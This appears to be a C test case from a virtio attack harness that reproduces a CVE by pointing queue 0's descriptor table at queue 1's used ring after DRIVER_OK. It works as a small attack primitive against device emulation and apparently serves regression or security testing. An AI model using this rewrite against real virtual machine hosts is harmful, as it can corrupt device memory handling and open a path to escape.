/*
 * CVE-2026-5747, cross-queue rewrite: after DRIVER_OK, queue 0's descriptor table is pointed at
 * queue 1's used ring, so the device would take descriptors from memory it writes itself.
 */
#include "attack.h"

static void rewrite(void)
{
    vio_write(DEV, VIRTIO_MMIO_QUEUE_SEL, 0);
    write64(VIRTIO_MMIO_QUEUE_DESC_LOW, Q1_USED);
}

int main(void)
{
    return register_attack("queue-desc-overlap", rewrite);
}
